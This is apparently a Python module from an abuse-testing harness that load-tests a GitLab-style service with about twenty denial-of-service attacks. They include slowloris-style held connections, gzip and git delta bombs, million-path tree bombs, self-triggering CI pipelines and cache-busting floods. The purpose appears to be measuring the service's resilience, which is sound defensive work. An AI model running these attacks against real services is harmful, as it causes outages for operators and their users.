"""The attacks. Each coroutine in `ATTACKS` runs until it is cancelled, and counts its answers (`200`, `503`, `cut`).
`python -m scripts.abuse.attacks NAME` runs one until SIGTERM. It reads its target from standard input, prints a line
when its preparation has ended and the attack begins, and prints the counts at the end."""

import asyncio
import base64
import contextlib
import functools
import json
import os
import signal
import sys
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine
from itertools import count
from typing import Any

from scripts.abuse.environment import (
    LARGE_FILE,
    MEDIUM_FILE,
    AttackTarget,
    begin,
    connected,
    fetch_in_turn,
    repeat,
    request_head,
    session,
    status_of,
)
from scripts.abuse.inputs import (
    ARTIFACTS_CONFIG,
    INPUTS,
    delta_bomb,
    pkt_line,
    push_body,
    running_job,
    send_input,
)
from scripts.harness.contents import commit_values

Answers = Counter[str]
Attack = Callable[[AttackTarget, Answers], Coroutine[Any, Any, None]]
MEGABYTE = 2**20

# --- expensive content of a repository -------------------------------------------------------------------------------


async def large_files(target: AttackTarget, answers: Answers) -> None:
    """Read a whole file of 200 MB in every way that the service offers."""
    file = f"{target.project(target.public)}/repository/files/{LARGE_FILE}"
    raw = f"{target.edge_url}/{target.public}/-/raw/main/{LARGE_FILE}"
    urls = [f"{file}?ref=main", f"{file}/raw?ref=main", raw]
    await fetch_in_turn(urls, len(urls) * 2, answers, target.as_attacker)


async def slow_readers(target: AttackTarget, answers: Answers) -> None:
    """Read 9 MB with 100 clients, each of which takes 4 KiB a second."""
    url = f"{target.project(target.public)}/repository/files/{MEDIUM_FILE}/raw?ref=main"

    async def read(_number: int) -> str:
        async with connected(url) as (reader, writer):
            writer.write(request_head("GET", url, private_token=target.attacker))
            answers[await status_of(reader)] += 1
            while not reader.at_eof():
                await reader.read(4096)
                await asyncio.sleep(1)
            return "ended"

    await repeat(100, read, answers, pause=0.5)


async def large_changes(target: AttackTarget, answers: Answers) -> None:
    """Ask for the statistics, the diff and a comparison of a commit that changes very many lines."""
    repository = f"{target.project(target.public)}/repository"
    commit = f"{repository}/commits/{target.large_change}"
    urls = [commit, f"{commit}/diff", f"{repository}/compare?from=start&to=main"]
    await fetch_in_turn(urls, 8, answers, target.as_attacker)


async def git_bomb(target: AttackTarget, answers: Answers) -> None:
    """Ask for pages of a tree of a million paths that consists of ten objects."""
    tree = f"{target.project(target.public)}/repository/tree?ref=bomb&recursive=true&per_page=20"
    urls = [tree, f"{tree}&page=20000", f"{tree}&pagination=keyset", f"{tree}&path=d9"]
    await fetch_in_turn(urls, 8, answers, target.as_attacker)


async def abandoned_archives(target: AttackTarget, answers: Answers) -> None:
    """Ask anonymously for archives in all formats, from the API and the edge, and leave after the first bytes."""
    numbers, formats = count(), ("tar", "tar.gz", "zip", "tar.bz2")

    async def ask(_number: int) -> str:
        number = next(numbers)
        base = (target.api_url, target.edge_url)[number % 2]
        url = f"{base}/{target.public}/-/archive/main/app{number}.{formats[number // 2 % len(formats)]}"
        async with connected(url) as (reader, writer):
            writer.write(request_head("GET", url))
            return await status_of(reader)

    await repeat(20, ask, answers, pause=0.1)


async def archives_of_a_bomb(target: AttackTarget, answers: Answers) -> None:
    """Ask as a user for the archive of a tree of a million paths, and of folders in it."""
    async with session(target.as_attacker) as http:

        async def ask(number: int) -> str:
            path = "/".join(["d1"] * (number % 4))
            url = f"{target.project(target.public)}/repository/archive.tar?sha=bomb&path={path}"
            async with http.get(url) as answer:
                await answer.content.read(1000)
                return str(answer.status)

        await repeat(8, ask, answers, pause=0.1)


# --- git over HTTP, by clients that are not git ---------------------------------------------------------------------

UPLOAD_PACK = "application/x-git-upload-pack-request"
RECEIVE_PACK = "application/x-git-receive-pack-request"
GIT_CLIENTS = 80


async def silent_fetches(target: AttackTarget, answers: Answers) -> None:
    """Begin to fetch anonymously, and then send nothing more."""
    url = f"{target.api_url}/{target.public}.git/git-upload-pack"

    async def fetch(_number: int) -> str:
        async with connected(url) as (reader, writer):
            answers["opened"] += 1
            writer.write(request_head("POST", url, content_type=UPLOAD_PACK, transfer_encoding="chunked"))
            answer = await reader.read(100)
            return answer.split()[1].decode() if answer else "closed"

    await repeat(GIT_CLIENTS, fetch, answers, pause=0.2)


async def unread_clones(target: AttackTarget, answers: Answers) -> None:
    """Ask anonymously for a whole clone, and read none of it."""
    url = f"{target.api_url}/{target.public}.git/git-upload-pack"
    want = f"want {target.large_change} ofs-delta side-band-64k\n"
    body = pkt_line(want.encode()) + b"0000" + pkt_line(b"done\n")
    head = request_head("POST", url, content_type=UPLOAD_PACK, content_length=str(len(body)))

    async def fetch(_number: int) -> str:
        async with connected(url) as (reader, writer):
            writer.write(head + body)
            status = await status_of(reader)
            answers[status] += 1
            await asyncio.sleep(20 if status == "200" else 0.2)
            return "left"

    await repeat(GIT_CLIENTS, fetch, answers, pause=0.2)


async def delta_bombs(target: AttackTarget, answers: Answers) -> None:
    """Push a pack of about a kilobyte that unpacks to gigabytes."""
    url = f"{target.api_url}/{target.mine}.git/git-receive-pack"
    body = push_body("refs/heads/large", delta_bomb())
    credentials = base64.b64encode(f"attacker:{target.attacker}".encode()).decode()
    headers = {"Authorization": f"Basic {credentials}", "Content-Type": RECEIVE_PACK}
    await fetch_in_turn([url], 4, answers, headers, body=lambda: body)


# --- connections that are held open without use ---------------------------------------------------------------------

CONNECTIONS = 150


async def idle_connections(target: AttackTarget, answers: Answers) -> None:
    """Connect to the API and to the edge, and send nothing, half a head, or half a body."""
    posted = f"{target.api_url}/api/v4/projects"
    half_a_body = request_head("POST", posted, content_length="1000", private_token=target.attacker)
    beginnings = (b"", b"GET / HTTP/1.1\r\nhost: x\r\n", half_a_body)
    openings = [(url, opening) for url in (target.api_url, target.edge_url) for opening in beginnings]

    async def hold(number: int) -> str:
        url, opening = openings[number % len(openings)]
        async with connected(url) as (reader, writer):
            answers["opened"] += 1
            writer.write(opening)
            answer = await reader.read(100)
            return answer.split()[1].decode() if answer.startswith(b"HTTP/1.1 ") else "closed"

    await repeat(CONNECTIONS * len(openings), hold, answers, pause=0.2)


async def unread_answers(target: AttackTarget, answers: Answers) -> None:
    """Send one request after the other on a connection, and read no answer."""
    commits = f"{target.project(target.public)}/repository/commits?per_page=100"
    urls = [commits, f"{target.edge_url}/{target.public}/-/raw/main/{MEDIUM_FILE}"]

    async def ask(number: int) -> str:
        url = urls[number % len(urls)]
        async with connected(url) as (_, writer):
            answers["opened"] += 1
            try:
                while True:
                    writer.write(request_head("GET", url) * 50)
                    async with asyncio.timeout(5):
                        await writer.drain()
            except TimeoutError:
                await asyncio.sleep(20)
                return "held"

    await repeat(CONNECTIONS, ask, answers, pause=0.2)


# --- bodies ---------------------------------------------------------------------------------------------------------


async def bodies_of_strangers(target: AttackTarget, answers: Answers) -> None:
    """Send 40 bodies of 10 MB at once anonymously, and hold back their last bytes."""
    urls = [f"{target.api_url}{path}" for path in ("/api/v4/projects", "/-/sign_in", "/api/v4/jobs/request")]

    async def slowly() -> AsyncIterator[bytes]:
        yield b'{"name": "'
        for _ in range(10):
            yield b"x" * (MEGABYTE - 10)
        await asyncio.sleep(5)

    await fetch_in_turn(urls, 40, answers, {"Content-Type": "application/json"}, body=slowly)


async def kept_bodies(target: AttackTarget, answers: Answers) -> None:
    """Send bodies of 6 MB. Some end a megabyte too early, together with their connections; others are refused, and
    their connections stay open without another request."""
    source = INPUTS["commit-message"]
    async with session() as http:
        request = await source.make(target, http, source.largest)
    fields = {"content_length": str(len(request.body)), "private_token": target.attacker}
    head = request_head("POST", request.url, content_type="application/json", **fields)

    async with contextlib.AsyncExitStack() as stack:

        async def send(number: int) -> str:
            if number:
                reader, writer = await stack.enter_async_context(connected(request.url))
                writer.write(head + request.body)
                return await status_of(reader)
            async with connected(request.url) as (_, writer):
                writer.write(head + request.body[:-MEGABYTE])
                await writer.drain()
                await asyncio.sleep(0.1)
                return "ended"

        await repeat(3, send, answers)


async def gzip_bombs(target: AttackTarget, answers: Answers) -> None:
    """Send ten megabytes that unpack to ten gigabytes of zeros, to the API and to git."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(1024)) + packer.flush()
    content_types = {
        f"{target.api_url}/api/v4/projects": "application/json",
        f"{target.api_url}/{target.public}.git/git-upload-pack": UPLOAD_PACK,
        f"{target.api_url}/{target.mine}.git/git-receive-pack": RECEIVE_PACK,
    }
    headers = {"Content-Encoding": "gzip", **target.as_attacker}
    await asyncio.gather(
        *(
            fetch_in_turn([url], 3, answers, headers | {"Content-Type": content_type}, body=lambda: bomb)
            for url, content_type in content_types.items()
        )
    )


# --- lists of long rows ---------------------------------------------------------------------------------------------

#: A character that JSON writes as six, and a name of as many as a name may have.
_LONG = "\x01"
_NAME = _LONG * 255
_ROWS = 100
_NAMED = 200


async def large_pages(target: AttackTarget, answers: Answers) -> None:
    """Ask for pages of merge requests that have as many and as long labels, assignees and reviewers as
    possible."""
    project = target.project(target.mine)
    async with session(target.as_attacker) as http:

        async def made(path: str, **values: object) -> dict[str, Any]:
            async with http.post(project + path, json=values) as answer:
                answer.raise_for_status()
                return dict(await answer.json())

        bots = [
            (await made("/access_tokens", name=_NAME, scopes=["api"], access_level=30))["user_id"]
            for _ in range(_NAMED)
        ]
        labels = ",".join(f"{number:{_LONG}<255}" for number in range(_NAMED))
        named = {"labels": labels, "assignee_ids": bots, "reviewer_ids": bots}
        for number in range(_ROWS):
            branch = f"long-{number}"
            await made("/repository/branches", branch=branch, ref="main")
            await made("/merge_requests", source_branch=branch, target_branch="main", title=_NAME, **named)
    urls = [
        f"{project}/merge_requests?per_page={rows}&sort={order}"
        for rows in (20, _ROWS)
        for order in ("asc", "desc")
    ]
    await fetch_in_turn(urls, 16, answers, target.as_attacker)


# --- jobs and mail --------------------------------------------------------------------------------------------------


async def pipeline_bomb(target: AttackTarget, answers: Answers) -> None:
    """Push a CI file that triggers itself six times, and another one that triggers a pipeline of its own project."""
    begin()
    project = target.project(target.mine)
    trigger = "bomb{}:\n  trigger:\n    include: .gitlab-ci.yml\n    strategy: depend\n"
    files = {
        "bomb": "".join(map(trigger.format, range(6))),
        "loop": f"again:\n  parallel: 50\n  trigger:\n    project: {target.mine}\n    branch: loop\n",
    }
    async with session(target.as_attacker) as http:
        for branch, text in files.items():
            body = commit_values(branch, {".gitlab-ci.yml": text}, start_branch="main")
            async with http.post(f"{project}/repository/commits", json=body) as answer:
                answers[f"commit {answer.status}"] += 1
        highest = 0
        while True:
            async with http.get(f"{project}/pipelines?per_page=1") as answer:
                highest = max(highest, int(answer.headers.get("X-Total", "0")))
            answers["pipelines"] = highest
            await asyncio.sleep(0.5)


async def artifact_members(target: AttackTarget, answers: Answers) -> None:
    """Upload an archive of very many files, and read one file of it after the other."""
    async with session(target.as_attacker) as http:
        job = await running_job(target, http, ARTIFACTS_CONFIG)
        upload = job.upload({f"files/{number:06}.txt": "x" for number in range(150_000)})
        begin()
        answers[f"upload {await upload.send(http)}"] += 1
        await job.finish().send(http)
    files = f"{target.project(target.mine)}/jobs/{job.id}/artifacts/files"
    urls = [f"{files}/{number:06}.txt" for number in range(8)]
    await fetch_in_turn(urls, 8, answers, target.as_attacker)


async def invitations(target: AttackTarget, answers: Answers) -> None:
    """Invite new addresses to a project, and add new addresses, which ask for confirmation, to the attacker's
    account."""
    numbers = count()
    async with session(target.as_attacker) as http:

        async def invite_or_claim(number: int) -> str:
            address = f"somebody{next(numbers)}@example.org"
            if not number % 2:
                async with http.post(
                    f"{target.api_url}/api/v4/user/emails", json={"email": address}
                ) as answer:
                    return f"address {answer.status}"
            body = {"email": address, "access_level": 10}
            async with http.post(f"{target.project(target.mine)}/invitations", json=body) as answer:
                return str((await answer.json())["status"] if answer.status == 201 else answer.status)

        await repeat(8, invite_or_claim, answers)


# --- requests to the edge that it has to pass on to its origin ------------------------------------------------------


async def uncollapsed(target: AttackTarget, answers: Answers) -> None:
    """Ask for the same file again and again, and forbid that the edge answers from its store."""
    url = f"{target.edge_url}/{target.public}/-/raw/main/{MEDIUM_FILE}"
    await fetch_in_turn([url], 100, answers, {"Cache-Control": "no-store, no-cache"})


async def unawaited_archives(target: AttackTarget, answers: Answers) -> None:
    """Ask anonymously for archives that take long to pack, each time for another one, and leave before the first
    byte."""
    numbers = count()

    async def ask(_number: int) -> str:
        number = next(numbers)
        query = f"?path=src/{number % 100}" if number % 4 else ""
        url = f"{target.edge_url}/{target.public}/-/archive/main/app{number}.tar.bz2{query}"
        async with connected(url) as (_, writer):
            writer.write(request_head("GET", url))
            await asyncio.sleep(0.5)
            return "left"

    await repeat(20, ask, answers)


ATTACKS: dict[str, Attack] = {
    "large-files": large_files,
    "slow-readers": slow_readers,
    "large-changes": large_changes,
    "git-bomb": git_bomb,
    "silent-fetches": silent_fetches,
    "unread-clones": unread_clones,
    "delta-bomb": delta_bombs,
    "idle-connections": idle_connections,
    "unread-answers": unread_answers,
    "bodies-of-strangers": bodies_of_strangers,
    "kept-bodies": kept_bodies,
    "gzip-bombs": gzip_bombs,
    "large-pages": large_pages,
    "pipeline-bomb": pipeline_bomb,
    "abandoned-archives": abandoned_archives,
    "archives-of-a-bomb": archives_of_a_bomb,
    "artifact-members": artifact_members,
    "invitations": invitations,
    "uncollapsed": uncollapsed,
    "unawaited-archives": unawaited_archives,
    **{name: functools.partial(send_input, name) for name in INPUTS},
}


async def attack_until_terminated(name: str, target: AttackTarget) -> Answers:
    """Attack until SIGTERM; return the counts."""
    answers = Answers()
    task = asyncio.create_task(ATTACKS[name](target, answers))
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, task.cancel)
    with contextlib.suppress(asyncio.CancelledError):
        await task
    return answers


if __name__ == "__main__":
    os.nice(10)  # the service is measured, and not how the processor is shared with the attacker
    attacked = AttackTarget.from_json(sys.stdin.read())
    print(json.dumps(asyncio.run(attack_until_terminated(sys.argv[1], attacked))))
